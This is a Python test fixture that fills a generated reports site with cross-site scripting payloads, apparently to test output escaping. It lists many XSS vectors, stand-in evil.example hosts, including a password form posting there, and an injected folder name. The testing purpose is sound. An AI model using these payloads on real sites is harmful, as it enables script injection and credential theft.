"""A site whose register, reports, receipts and folders try to run a script wherever a text can stand."""

import json
import re
from itertools import count

from running import BASE

WORD = "xssword"
# {n} tells which place a script ran from.
SCRIPTS = (
    "<img src=x onerror=`alert({n})`>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=`alert({n})`>",
    "<svg/onload=alert({n})>",
    "x <img src=`x` onerror=alert({n})>",
    "<a href=`javascript:alert({n})`>k</a>",
    "[k](javascript:alert({n}))",
    "<a href='JaVaScRiPt:alert({n})'>k</a>",
    "</title><script>alert({n})</script>",
    '"><script>alert({n})</script>',
    "'><img src=x onerror=alert({n})>",
    '" autofocus onfocus=alert({n}) x="',
    "<details open ontoggle=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<object data='data:text/html,<script>alert({n})</script>'></object>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/y.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href=//evil.example/>",
    "&lt;img src=x onerror=alert({n})&gt;",
    "&amp;lt;img src=x onerror=alert({n})&amp;gt;",
    "`<img src=x onerror=alert({n})>`",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "{{{{ ''.__class__ }}}} {{% raw %}} <img src=x onerror=alert({n})>",
)
BLOCKS = (
    '{{: onclick=alert({n}) data-toc-label="<img src=x onerror=alert({n})>" }}\n',
    '### k{n} {{: data-toc-label="<img src=x onerror=alert({n})>" }}\n',
    '### k{n} {{#x{n}" onmouseover="alert({n})}}\n',
    "### k{n} {{#a{n}'><img/src=x/onerror=alert({n})>}}\n",
    "[TOC]\n",
    "[k{n}]: javascript:alert({n})\n\n[k][k{n}] ![k][k{n}]\n",
    "| a | <img src=x onerror=alert({n})> |\n| --- | --- |\n| <svg onload=alert({n})> | b |\n",
    "- <img src=x onerror=alert({n})>\n    - ### <img src=x onerror=`alert({n})`>\n",
    "> ## <img src=x onerror=`alert({n})`>\n",
    "<div markdown='1'>\n\n### <img src=x onerror=`alert({n})`>\n\n</div>\n",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert({n})>"]\n```\n',
    "<pre class='mermaid'><code>graph TD; A --> B</code></pre>\n",
    "<div class='md-overlay md-dialog' data-md-component='announce' style='position:fixed;inset:0'>k</div>\n",
    "<form action=//evil.example><input name=password type=password onfocus=alert({n}) autofocus><button>k</button></form>\n",
    "<img src='x' alt='\" onerror=\"alert({n})' title='\"><script>alert({n})</script>'>\n",
    '![" onerror="alert({n})](x.png "\\" onload=\\"alert({n})")\n',
    "Setext <img src=x onerror=`alert({n})`>\n---\n",
    "<h2 id='x{n}'>raw <img src=x onerror=alert({n})></h2>\n",
    "<a name=__config id=__config href='data:,x'>{{}}</a>\n",
)
# What a theme that reads its settings from the page would take from an element of the prose.
SETTINGS = json.dumps(
    {"base": "https://evil.example", "search": "data:text/javascript,postMessage(1)", "features": []}
)


class Numbers:
    """Fills the number of a place into a text."""

    def __init__(self):
        self._next = count(1)

    def __call__(self, text):
        return text.format(n=next(self._next))

    def line(self, position):
        return f"{WORD} {self(SCRIPTS[position % len(SCRIPTS)])}"


def prose(number, ids):
    """Sections with the scripts as text and in headings of each level, with each block, with each id of a theme.

    Each has one of them alone: what one leaves open could make the others harmless.
    """
    parts = []
    for position, script in enumerate(SCRIPTS):
        parts += [f"{'#' * (3 + position % 4)} {WORD} {number(script)}", f"### {number(script)}"]
        parts += [number(script), f"**{number(script)}**"]
    parts += [number(block) for block in BLOCKS]
    parts += [f'<div id="{name}">{SETTINGS}</div>' for name in ids]
    parts += [f"### k {{#{name}}}\n\n### {name}" for name in ids]
    parts += [f"<input type=checkbox id='{name}' checked><label for='{name}'>k</label>" for name in ids]
    return "\n\n".join(f"## {WORD}\n\n{part}" for part in parts)


def quoted(text):
    return json.dumps(text, ensure_ascii=False)


def write(folder, ids=()):
    """Write register, reports and a receipt below `folder`/reports; return the reports' pages."""
    number = Numbers()
    home = folder / "reports"
    (home / "a").mkdir(parents=True)
    keys = ("名称", "简称", "地区", "设立")
    facts = ", ".join(f"{key}: {quoted(number.line(place))}" for place, key in enumerate(keys))
    aliases = json.dumps([number.line(place) for place in range(8, 11)], ensure_ascii=False)
    others = "".join(
        f"- {{标识: b{place}, 名称: {quoted(number.line(place))}, 地区: {quoted(number.line(place + 1))}, 上级: a}}\n"
        for place in range(6)
    )
    (home / "agencies.yml").write_text(f"- {{标识: a, {facts}, 别名: {aliases}}}\n{others}", encoding="utf-8")
    for year in (2022, 2023):
        source = (BASE / f"{year}.md").read_text(encoding="utf-8")
        front, body = source.removeprefix("---\n").split("---\n", 1)
        for key, place in (("标题", 8), ("落款", 9)):
            front = re.sub(rf"(?m)^{key}: .*$", lambda _, k=key, p=place: f"{k}: {quoted(number.line(p))}", front)
        front = front.replace("机关: example-bureau", "机关: a")
        front = front.replace("[60, 12, 1,", f"[{quoted(number.line(0))}, {quoted(number.line(3))}, 1,")
        front += (
            f"来源: {{文件: {quoted(number.line(10))}, 网址: {quoted(number('javascript:alert({n})'))},"
            f" 取得日期: {quoted(number.line(11))}, sha256: {quoted(number.line(9))}}}\n"
            f"审核: [{{环节: {quoted(number.line(1))}, 人员: {quoted(number.line(2))}, 日期: {quoted(number.line(3))}}}]\n"
            f"说明: [{{规则: FIG203, 理由: {quoted(number.line(4))}, 署名: {quoted(number.line(5))}}}]\n"
            f"更正: [{{日期: 2024-03-01, 位置: 标题, 原: {quoted(number.line(6))}, 现: {quoted(number.line(7))}, 理由: {quoted(number.line(8))}}}]\n"
        )
        body = re.sub(r"(?m)^## (.*)$", lambda found: f"## {found[1]} {number.line(found.start())}", body)
        body += (
            "\n" + prose(number, ids) + f"\n\n## {number.line(0)}\n\n{WORD}\n\n## 未归位内容\n\n{number.line(1)}\n"
        )
        (home / f"a/{year}.md").write_text(f"---\n{front}---\n{body}", encoding="utf-8")
    receipt = {
        "schema": 1,
        "input": number.line(0),
        "sha256": number.line(1),
        "agency": "a",
        "year": 2023,
        "form": "cn-disclosure-2021",
        "cells": {"expected": 200, "read": 200, "blank": 0},
        "figures": [
            {
                "at": "applications/new/total",
                "text": number.line(2),
                "raw": number.line(3),
                "line": 1,
                "label": number.line(4),
                "place": number.line(5),
                "changed": [],
            }
        ],
        "notes": [{"code": "x", "message": number.line(6), "line": 1, "place": number.line(7)}],
        "open": [{"code": "x", "message": number.line(8), "line": 1, "place": number.line(9)}],
    }
    (home / "a/2023.import.json").write_text(json.dumps(receipt), encoding="utf-8")
    misplaced = home / 'b" onmouseover="alert(9)'
    misplaced.mkdir()
    report = (BASE / "2023.md").read_text(encoding="utf-8")
    (misplaced / "2023.md").write_text(report.replace("机关: example-bureau", "机关: b1"), encoding="utf-8")
